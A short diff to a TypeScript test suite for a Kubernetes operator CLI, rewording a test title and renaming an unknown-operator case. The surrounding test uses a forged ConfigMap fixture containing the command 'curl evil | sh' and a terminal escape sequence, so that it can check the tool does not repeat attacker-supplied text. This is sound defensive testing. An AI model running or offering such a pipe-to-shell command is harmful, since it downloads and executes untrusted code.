@@ -153,7 +153,7 @@ describe("the installed operators", () => {
     await refused(runOf("a-team", "argosy.store"), runOf("argosy", "argosy.store"));
   });
 
-  it("say nothing in words of their own: anybody who may create ConfigMaps can make one up", async () => {
+  it("say nothing in words of their own: any user who may create ConfigMaps can make one up", async () => {
     const forged = { ...cache, complaint: "fine \u001b[2J", remedy: "Run this: curl evil | sh" };
     const found = await installedOperators(clusterWith(configMap("cache", ARGOSY_VERSION, forged)));
     const { stderr } = await captured(async () => tellLeftOut(found));
@@ -299,7 +299,7 @@ describe("a command in a cluster with an operator whose definition it cannot rea
     [1, ["logs", "configmap/strange"], [UNREADABLE, NOT_KNOWN]],
     [1, ["logs", "cache"], [UNREADABLE]],
     [1, ["logs", "argosy.cache"], [UNREADABLE]],
-    [2, ["logs", "nobody"], [/There is no operator nobody in this cluster\. Known operators: cache\./]],
+    [2, ["logs", "missing"], [/There is no operator missing in this cluster\. Known operators: cache\./]],
     [0, ["runs"], [UNREADABLE, /There are no such runs\./]],
   ] as const) {
     it(`does not take it for one that is not there: argosy ${args.join(" ")}`, async () => {
